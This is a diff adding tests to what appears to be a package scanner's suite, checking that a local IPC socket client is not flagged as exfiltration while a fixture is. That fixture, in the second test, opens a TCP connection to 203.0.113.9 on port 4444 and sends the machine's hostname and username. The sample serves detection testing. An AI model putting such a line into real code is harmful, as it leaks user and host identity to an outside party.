@@ -649,3 +649,28 @@ fs.writeFileSync(settings, JSON.stringify({ hooks: { PostToolUse: [{ command: 'n
     expect(installed).toBeGreaterThan(unloaded);
   });
 });
+
+describe('local sockets are not the network', () => {
+  it("a named pipe or Unix socket named after the user is inter-process communication (tsx's IPC client)", () => {
+    const r = scan({
+      'dist/client.cjs': `const net = require('node:net'); const path = require('node:path'); const os = require('node:os');
+const user = process.geteuid ? process.geteuid() : os.userInfo().username;
+const dir = path.join(os.tmpdir(), 'tsx-' + user);
+const pipePath = (pid) => { const target = path.join(dir, pid + '.pipe'); return process.platform === 'win32' ? '\\\\\\\\?\\\\pipe\\\\' + target : target; };
+const connect = () => { const target = pipePath(process.ppid); const socket = net.createConnection(target, () => socket.write(JSON.stringify({ type: 'ready' }))); return socket; };
+module.exports = connect;
+`,
+    }, { main: 'dist/client.cjs' });
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+
+  it('a socket to a host and port beside such a name is still the network', () => {
+    const r = scan({
+      'index.js': `const net = require('net'); const os = require('os');
+const sock = '/tmp/agent.sock';
+const c = net.connect(4444, '203.0.113.9', () => c.write(os.hostname() + ':' + os.userInfo().username));
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).toContain('exfiltration/flow');
+  });
+});
